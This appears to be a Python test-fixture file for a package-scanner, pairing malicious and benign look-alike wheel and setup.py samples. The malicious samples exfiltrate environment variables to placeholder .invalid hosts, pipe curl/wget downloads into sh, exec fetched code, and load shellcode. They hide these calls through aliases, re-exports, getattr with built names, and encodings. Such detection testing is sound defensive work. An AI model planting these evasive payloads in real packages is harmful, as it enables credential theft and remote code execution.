"""Names built at run time to hide what is called (in __init__.py and in setup.py).

Every hidden call here runs an inert command (`echo pwned`) or inert code (`print(1)`); what
matters is that the name of exec/system is never written plainly.
"""

from __future__ import annotations

import base64
import codecs

from techniques import Case

B64_CODE = base64.b64encode(b"import os\nos.system('echo pwned')\n").decode()
ROT13_CODE = codecs.encode("import os\nos.system('echo pwned')\n", "rot13")
SETUP = "from setuptools import setup\n{body}\nsetup(name='{name}', version='1.0')\n"


def _wheel(technique: str, name: str, init: str, rules: tuple[str, ...]) -> Case:
    return Case(technique, name, {f"{name.replace('-', '_')}/__init__.py": init},
                "malicious", rules, kind="wheel")


def _sdist(technique: str, name: str, body: str, rules: tuple[str, ...]) -> Case:
    return Case(technique, name, {"setup.py": SETUP.format(body=body, name=name)},
                "malicious", rules)


CASES = [
    Case("network library imported in a sibling module, called through its attribute",
         "sibling-lib", {
             "sibling_lib/compat.py": "import requests as requests_\n",
             "sibling_lib/__init__.py": (
                 "import os\nfrom . import compat\n\n"
                 "compat.requests_. post('https://k.x.invalid/u', data=dict(os.environ))\n"),
         }, "malicious", ("PV303",), kind="wheel"),
    Case("benign look-alike: a compat module re-exporting requests for the client's calls",
         "sibling-client", {
             "sibling_client/compat.py": "import requests as requests_\n",
             "sibling_client/__init__.py": (
                 "from . import compat\n\n\n"
                 "def fetch(url, timeout=10):\n"
                 "    return compat.requests_.get(url, timeout=timeout).json()\n"),
         }, "benign", kind="wheel"),
    # The package names itself absolutely: the same sibling, reached as `ev.compat`.
    Case("network library in a sibling module, the package imported by its own name",
         "self-import-from", {
             "self_import_from/compat.py": "import requests as requests_\n",
             "self_import_from/__init__.py": (
                 "import os\nfrom self_import_from import compat\n\n"
                 "compat.requests_.post('https://k.x.invalid/u', data=dict(os.environ))\n"),
         }, "malicious", ("PV303",), kind="wheel"),
    Case("network library in a sibling module, `import pkg.compat as compat`",
         "self-import-as", {
             "self_import_as/compat.py": "import requests as requests_\n",
             "self_import_as/__init__.py": (
                 "import os\nimport self_import_as.compat as compat\n\n"
                 "compat.requests_.post('https://k.x.invalid/u', data=dict(os.environ))\n"),
         }, "malicious", ("PV303",), kind="wheel"),
    Case("network library re-exported by name through the package's own absolute name",
         "self-import-name", {
             "self_import_name/compat.py": (
                 "from requests import (  # the client\n    post as send_,\n)\n"),
             "self_import_name/__init__.py": (
                 "import os\nfrom self_import_name.compat import send_\n\n"
                 "send_('https://k.x.invalid/u', data=dict(os.environ))\n"),
         }, "malicious", ("PV303",), kind="wheel"),
    Case("benign look-alike: the package's own compat module reached absolutely, for a "
         "client function", "self-import-client", {
             "self_import_client/compat.py": "import requests as requests_\n",
             "self_import_client/__init__.py": (
                 "from self_import_client import compat\n\n"
                 "SESSION = compat.requests_.Session()\n\n\n"
                 "def fetch(url, timeout=10):\n"
                 "    return SESSION.get(url, timeout=timeout).json()\n"),
         }, "benign", kind="wheel"),
    # A file that names no capability itself: the word is in the sibling that re-exports it.
    Case("download and exec through names a sibling re-exports, at import",
         "sibling-reexport-exec", {
             "sibling_reexport_exec/_util.py": (
                 "from urllib.request import urlopen as fetch\nfrom builtins import exec as run\n"),
             "sibling_reexport_exec/__init__.py": (
                 "from ._util import fetch, run\n\nrun(fetch('https://x.invalid/p').read())\n"),
         }, "malicious", ("PV202",), kind="wheel"),
    Case("environment posted through a sibling's `urlopen as post`, at import",
         "sibling-reexport-post", {
             "sibling_reexport_post/_net.py": "from urllib.request import urlopen as post\n",
             "sibling_reexport_post/_env.py": (
                 "import os\n\n\ndef snapshot():\n    return repr(dict(os.environ)).encode()\n"),
             "sibling_reexport_post/__init__.py": (
                 "from ._net import post\nfrom . import _env\n\n"
                 "post('https://x.invalid/c', data=_env.snapshot())\n"),
         }, "malicious", ("PV320",), kind="wheel"),
    Case("split download command run through a sibling's `system as run`, at import",
         "sibling-reexport-system", {
             "sibling_reexport_system/_util.py": "from os import system as run\n",
             "sibling_reexport_system/__init__.py": (
                 "from ._util import run\n\nrun('cu' + 'rl -s https://x.invalid/i | s' + 'h')\n"),
         }, "malicious", ("PV302",), kind="wheel"),
    Case("evasion: one more hop (`_util` re-exports from `_base`, which imports os)",
         "sibling-reexport-hop", {
             "sibling_reexport_hop/_base.py": "from os import system\n\nrun = system\n",
             "sibling_reexport_hop/_util.py": "from ._base import (\n    run,\n)\n",
             "sibling_reexport_hop/__init__.py": (
                 "from ._util import run\n\nrun('cu' + 'rl -s https://x.invalid/i | s' + 'h')\n"),
         }, "malicious", ("PV302",), kind="wheel"),
    Case("evasion: the hop named absolutely and aliased (`run = _base.run`), exec'd download",
         "sibling-reexport-alias-hop", {
             "sibling_reexport_alias_hop/_base.py": (
                 "from urllib.request import urlopen as fetch\nfrom builtins import exec as run\n"),
             "sibling_reexport_alias_hop/_util.py": (
                 "from sibling_reexport_alias_hop import _base\n\n"
                 "run = _base.run\nfetch = _base.fetch\n"),
             "sibling_reexport_alias_hop/__init__.py": (
                 "from ._util import fetch, run\n\nrun(fetch('https://x.invalid/p').read())\n"),
         }, "malicious", ("PV202",), kind="wheel"),
    Case("evasion: the sibling's import sits in a try block",
         "sibling-reexport-try", {
             "sibling_reexport_try/_util.py": (
                 "try:\n    from os import system as run\nexcept ImportError:  # old Pythons\n"
                 "    run = None\n"),
             "sibling_reexport_try/__init__.py": (
                 "from ._util import run\n\nrun('cu' + 'rl -s https://x.invalid/i | s' + 'h')\n"),
         }, "malicious", ("PV302",), kind="wheel"),
    Case("evasion: star imports all the way (`from ._util import *`, `from ._base import *`)",
         "sibling-reexport-star", {
             "sibling_reexport_star/_base.py": (
                 "from urllib.request import urlopen as fetch\nfrom builtins import exec as run\n"),
             "sibling_reexport_star/_util.py": "from ._base import *  # noqa\n",
             "sibling_reexport_star/__init__.py": (
                 "from ._util import *\n\nrun(fetch('https://x.invalid/p').read())\n"),
         }, "malicious", ("PV202",), kind="wheel"),
    Case("download and exec in setup.py through a root helper's re-exports", "setup-reexport-exec", {
        "setup.py": ("from setuptools import setup\nfrom _build import fetch, run\n\n"
                     "run(fetch('https://x.invalid/p').read())\n"
                     "setup(name='setup-reexport-exec', version='1.0')\n"),
        "_build.py": ("from urllib.request import urlopen as fetch\n"
                      "from builtins import exec as run\n"),
    }, "malicious", ("PV202",)),
    Case("evasion: setup.py's helper package re-exports from a submodule, split command",
         "setup-reexport-hop", {
             "setup.py": ("from setuptools import setup\nfrom helpers import run\n\n"
                          "run('cu' + 'rl -s https://x.invalid/i | s' + 'h')\n"
                          "setup(name='setup-reexport-hop', version='1.0')\n"),
             "helpers/__init__.py": "from .proc import run\n",
             "helpers/proc.py": "from subprocess import getoutput as run\n",
         }, "malicious", ("PV302",)),
    Case("benign look-alike: `_compat.py` re-exports subprocess.run for a CLI helper",
         "sibling-reexport-cli", {
             "sibling_reexport_cli/_compat.py": "from subprocess import run\n",
             "sibling_reexport_cli/__init__.py": (
                 "from ._compat import run\n\n\ndef main():\n"
                 "    run(['git', 'status', '--short'], check=True)\n"),
         }, "benign", kind="wheel"),
    Case("benign look-alike: `_compat.py` re-exports json.dumps, used at import",
         "sibling-reexport-json", {
             "sibling_reexport_json/_compat.py": "from json import dumps\n",
             "sibling_reexport_json/__init__.py": (
                 "from ._compat import dumps\n\nDEFAULTS = dumps({'retries': 3})\n"),
         }, "benign", kind="wheel"),
    Case("benign look-alike: setup.py runs cmake through a root helper's re-export",
         "setup-reexport-cmake", {
             "setup.py": ("from setuptools import setup\nfrom _build import run\n\n"
                          "run(['cmake', '-S', '.', '-B', 'build'])\n"
                          "setup(name='setup-reexport-cmake', version='1.0')\n"),
             "_build.py": "from subprocess import check_call as run\n",
         }, "benign"),
    Case("an import hidden after a string continued by a backslash (the graph scan read the "
         "continued text as code, left its bracket open and took the import for a function's)",
         "continued-string-import", {
             "continued_string_import/__init__.py": (
                 "def banner():\n    print(\"loading \\\nplugins\")\n\n"
                 "from ._sync import push\npush()\n"),
             "continued_string_import/_sync.py": (
                 "import os\nimport urllib.request\n\n\ndef push():\n"
                 "    urllib.request.urlopen('https://sync.pkgvet-test.invalid/u',\n"
                 "                           data=repr(dict(os.environ)).encode())\n"),
         }, "malicious", kind="wheel"),
    Case("benign look-alike: a string continued by a backslash, then an import of a config "
         "module that reads its defaults", "continued-string-config", {
             "continued_string_config/__init__.py": (
                 "def banner():\n    print(\"loading \\\nplugins\")\n\n"
                 "from ._defaults import load\nSETTINGS = load()\n"),
             "continued_string_config/_defaults.py": (
                 "import json\nimport os\n\n\ndef load():\n"
                 "    with open(os.path.join(os.path.dirname(__file__), 'defaults.json')) as fh:\n"
                 "        return json.load(fh)\n"),
             "continued_string_config/defaults.json": '{"retries": 3}\n',
         }, "benign", kind="wheel"),
    Case("a network module imported plainly in a sibling (named nowhere else there), called "
         "through the sibling's attribute", "plain-import-sibling", {
             "plain_import_sibling/compat.py": "import requests\n",
             "plain_import_sibling/__init__.py": (
                 "import os\nfrom . import compat\n\n"
                 "compat.requests.post('https://k.pkgvet-test.invalid/u', data=dict(os.environ))\n"),
         }, "malicious", kind="wheel"),
    Case("a network module imported plainly, then reached through globals() by a built name",
         "plain-import-globals", {
             "plain_import_globals/__init__.py": (
                 "import os\nimport socket\n\n"
                 "link = globals()['sock' + 'et'].create_connection(('c2.pkgvet-test.invalid', 443))\n"
                 "link.sendall(repr(dict(os.environ)).encode())\n"),
         }, "malicious", kind="wheel"),
    Case("an HTTP library named for its types, and its send reached through getattr with a "
         "built name", "typed-then-getattr", {
             "typed_then_getattr/__init__.py": (
                 "import os\nimport httpx\n\n\ndef _ok(resp: httpx.Response) -> bool:\n"
                 "    return resp.status_code < 400\n\n\n"
                 "getattr(httpx, 'po' + 'st')('https://k.pkgvet-test.invalid/u',\n"
                 "                           data=dict(os.environ))\n"),
         }, "malicious", kind="wheel"),
    Case("an HTTP library's module re-exported by a sibling that names only its types, the "
         "send made through the sibling", "typed-sibling-send", {
             "typed_sibling_send/_http.py": (
                 "import httpx\n\n\ndef ok(resp: httpx.Response) -> bool:\n"
                 "    return resp.status_code < 400\n"),
             "typed_sibling_send/__init__.py": (
                 "import os\nfrom . import _http\n\n"
                 "_http.httpx.post('https://k.pkgvet-test.invalid/u', data=dict(os.environ))\n"),
         }, "malicious", kind="wheel"),
    Case("benign look-alike: an HTTP library named only for its response type and its errors",
         "typed-http-helpers", {
             "typed_http_helpers/__init__.py": "from .status import status  # noqa: F401\n",
             "typed_http_helpers/status.py": (
                 "import httpx\n\n\ndef status(resp: httpx.Response) -> int:\n    try:\n"
                 "        resp.raise_for_status()\n    except httpx.HTTPStatusError:\n"
                 "        return -1\n    return resp.status_code\n"),
         }, "benign", kind="wheel"),
    Case("benign look-alike: an optional extra probed by importing it (generated API clients "
         "import aiohttp only to fail early when the extra is missing)", "optional-extra-probe", {
             "optional_extra_probe/__init__.py": "from .transport import AsyncTransport\n",
             "optional_extra_probe/transport.py": (
                 "try:\n    import aiohttp  # type: ignore  # noqa: F401\n"
                 "except ImportError as exc:  # pragma: NO COVER\n"
                 "    raise ImportError('install the async extra') from exc\n\n\n"
                 "class AsyncTransport:\n    kind = 'async'\n"),
         }, "benign", kind="wheel"),
    Case("a PEP 263 cookie naming raw_unicode_escape puts a lone surrogate in the text (the "
         "word screens failed on it, and two analyzers with them)", "surrogate-cookie", {
             "surrogate_cookie/__init__.py": (
                 b"# -*- coding: raw_unicode_escape -*-\nimport os\nMARK = '\\udcff'\n"
                 b"os.system('curl -s http://c2.pkgvet-test.invalid/x | sh')\n"),
         }, "malicious", kind="wheel"),
    Case("benign look-alike: a raw_unicode_escape cookie on a module of plain constants",
         "surrogate-constants", {
             "surrogate_constants/__init__.py": (
                 b"# -*- coding: raw_unicode_escape -*-\nSENTINEL = '\\udcff'\n"
                 b"LABELS = {'ok': 'fine'}\n"),
         }, "benign", kind="wheel"),
    _wheel("getattr(__import__(chr(111)+chr(115)), 'sy'+'stem')", "names-chr-getattr",
           "getattr(__import__(chr(111) + chr(115)), 'sy' + 'stem')('echo pwned')\n",
           ("PV211",)),
    _sdist("getattr(__import__(chr...), 'sy'+'stem') in setup.py", "names-chr-setup",
           "m = __import__(''.join(map(chr, [111, 115])))\ngetattr(m, 'metsys'[::-1])"
           "('echo pwned')", ("PV211",)),
    _wheel("importlib.import_module(x) then getattr", "names-import-module",
           "import importlib\nx = 'sub' + 'process'\nm = importlib.import_module(x)\n"
           "getattr(m, 'check_' + 'output')(['echo', 'pwned'])\n", ("PV211",)),
    _wheel("rot13 through an alias of exec", "names-rot13-alias",
           f"import codecs\nrun = exec\nrun(codecs.decode({ROT13_CODE!r}, 'rot13'))\n",
           ("PV201",)),
    _sdist("rot13 through an alias of exec in setup.py", "names-rot13-setup",
           f"import codecs as c\nfn = eval\nfn(compile(c.decode({ROT13_CODE!r}, 'rot_13'), "
           "'x', 'exec'))", ("PV201",)),
    _wheel("a lambda wrapping exec", "names-lambda-exec",
           f"import base64\nstart = lambda s: exec(s)\nstart(base64.b64decode({B64_CODE!r}))\n",
           ("PV201",)),
    _wheel("vars(builtins)['ex'+'ec']", "names-vars-builtins",
           "import builtins\nvars(builtins)['ex' + 'ec'](\"print('hi')\")\n", ("PV211",)),
    _sdist("__builtins__.__dict__ lookup in setup.py", "names-builtins-dict",
           "import builtins\nf = builtins.__dict__['ev' + 'al']\nf(\"print('hi')\")",
           ("PV211",)),
    _wheel("globals()['__builtins__'] lookup with a decoded name", "names-globals-decoded",
           "import base64\nk = base64.b64decode('ZXhlYw==').decode()\n"
           "b = globals()['__builtins__']\n"
           "fn = b[k] if isinstance(b, dict) else getattr(b, k)\nfn(\"print('hi')\")\n",
           ("PV211",)),
    _wheel("getattr with an XOR-decoded name nobody can fold", "names-xor-getattr",
           "import os\nKEY = [116, 126, 116, 115, 98, 122]\n"
           "name = ''.join(chr(c ^ 7) for c in KEY if c)\n"
           "getattr(os, name)('echo pwned')\n", ("PV210",)),
    _wheel("command carried in an exception object", "names-exception-command",
           "import os\ntry:\n    raise RuntimeError('curl -s https://x.invalid/p.sh | sh')\n"
           "except RuntimeError as exc:\n    os.system(str(exc))\n", ("PV209",)),
    _sdist("command carried in an exception object in setup.py", "names-exception-setup",
           "import subprocess\n\ndef go():\n    try:\n        raise ValueError("
           "'wget -q -O- https://x.invalid/i | bash')\n    except ValueError as e:\n"
           "        subprocess.call(e.args[0], shell=True)\n\ngo()", ("PV209",)),
    _wheel("map(f, ...) over the payload", "names-map-payload",
           f"import base64\n\ndef run(code):\n    exec(code)\n\n"
           f"list(map(run, [base64.b64decode({B64_CODE!r})]))\n", ("PV201",)),
    _wheel("threading.Thread(target=stealer)", "names-thread-target",
           "import os, threading, urllib.request\n\ndef steal():\n"
           "    urllib.request.urlopen('https://x.invalid/t', data=repr(dict(os.environ))"
           ".encode())\n\nthreading.Thread(target=steal, daemon=True).start()\n",
           ("PV303",)),
    # The hidden-name fold grades a frame read (`sys._getframe`) by what it is; taken with a
    # send at import it is still the caller's code going out.
    _wheel("getattr(sys, 'emarfteg_'[::-1]) reading the importer's globals, posted",
           "names-frame-post",
           "import json, sys, urllib.request\n\n\ndef _grab():\n"
           "    g = getattr(sys, 'emarfteg_'[::-1])(1).f_globals\n"
           "    urllib.request.urlopen('https://x.invalid/f', data=json.dumps(sorted(g))"
           ".encode())\n\n\n_grab()\n", ("PV323",)),
    # A Unix-domain socket is local IPC, unless the code rebinds AF_UNIX to the internet.
    _wheel("socket.AF_UNIX rebound to AF_INET, then download, save, chmod, run",
           "names-af-unix-rebound",
           "import os, socket, subprocess\n\nsocket.AF_UNIX = socket.AF_INET\n"
           "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
           "s.connect(('127.0.0.1', 9))\ndata = s.recv(65536)\n"
           "p = os.path.expanduser('~/.cache/helper')\n"
           "with open(p, 'wb') as fh:\n    fh.write(data)\n"
           "os.chmod(p, 0o755)\nsubprocess.Popen([p])\n", ("PV301",)),
    # Machine code from plain literals at run time is a CPU probe; decoded from a blob it is
    # a loader waiting for its call, and at import it runs unasked.
    Case("shellcode decoded from base64 into VirtualAlloc'd memory, in a function",
         "names-shellcode-runtime", {
             "names_shellcode_runtime/__init__.py": "",
             "names_shellcode_runtime/run.py": (
                 "import base64, ctypes\n\n\ndef go():\n"
                 "    code = base64.b64decode('kJCQw5CQkMOQkJDD')\n"
                 "    k = ctypes.windll.kernel32\n"
                 "    addr = k.VirtualAlloc(None, len(code), 0x3000, 0x40)\n"
                 "    k.RtlMoveMemory(addr, code, len(code))\n"
                 "    k.CreateThread(None, 0, addr, None, 0, None)\n"),
         }, "suspicious", ("PV308",), kind="wheel"),
    _wheel("literal machine code run through VirtualAlloc at import", "names-shellcode-import",
           "import ctypes\n\ncode = b'\\x90\\x90\\xc3'\nk = ctypes.windll.kernel32\n"
           "addr = k.VirtualAlloc(None, len(code), 0x3000, 0x40)\n"
           "k.RtlMoveMemory(addr, code, len(code))\n"
           "k.CreateThread(None, 0, addr, None, 0, None)\n", ("PV308",)),
]
